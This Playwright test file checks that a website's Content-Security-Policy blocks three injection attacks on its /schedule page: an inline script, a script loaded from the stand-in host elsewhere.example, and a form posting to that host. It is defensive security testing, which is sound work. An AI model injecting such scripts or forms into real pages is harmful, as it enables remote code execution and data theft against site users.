import type { Page, Route } from '@playwright/test'
import { expect, test } from '../helpers/local-site-fixture.ts'

/* Injection attacks against the Content-Security-Policy. An attack that succeeds sets `attacked`. Every directive of every
   document is in visual-baselines/heads; build/policy.test.ts checks that none allows unsafe keywords or wildcards. */

const elsewhere = 'https://elsewhere.example'

const attacks: Record<string, (elsewhere: string) => unknown> = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.append('globalThis.attacked = true')
    document.head.append(script)
  },
  'a script of another site': (elsewhere) => {
    const script = document.createElement('script')
    script.setAttribute('src', `${elsewhere}/attack.js`)
    document.head.append(script)
  },
  'a form that submits to another site': (elsewhere) => {
    const form = document.createElement('form')
    form.action = elsewhere
    form.method = 'post'
    document.body.append(form)
    form.submit()
  },
}

// Only on /schedule, which has the most script: build/policy.test.ts checks that every document has the same policy.
test('the policy stops attacks, even on a host without headers', async ({
  page,
  context,
  site,
  troubles,
}) => {
  test.slow()
  troubles.allow(/./)
  const asked: string[] = []
  await context.route(`${elsewhere}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ body: 'globalThis.attacked = true', contentType: 'text/javascript' })
  })
  // Only documents have a policy, and their paths have no extension.
  const isDocument = ({ origin, pathname }: URL) => origin === site.url && !pathname.includes('.')
  await context.route(isDocument, withoutPolicy)
  for (const [name, run] of Object.entries(attacks)) {
    await test.step(name, async () => {
      await page.goto('/schedule')
      expect.soft(await attack(page, run), name).toEqual({ refused: true, attacked: false })
      expect.soft(new URL(page.url()).origin, name).toBe(site.url)
      expect.soft(asked.splice(0), name).toEqual([])
    })
  }
})

async function withoutPolicy(route: Route): Promise<void> {
  const response = await route.fetch()
  const { 'content-security-policy': _, ...headers } = response.headers()
  await route.fulfill({ response, headers })
}

/** Runs an attack on the open page. @returns whether it was refused, and what it left behind */
async function attack(page: Page, run: (elsewhere: string) => unknown) {
  const refusal = page.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve(true), { once: true })
        setTimeout(resolve, 10_000, false)
      }),
  )
  // Some attacks throw; only their effects matter.
  await page.evaluate(run, elsewhere).catch(() => {})
  return { refused: await refusal, attacked: await page.evaluate(() => 'attacked' in globalThis) }
}
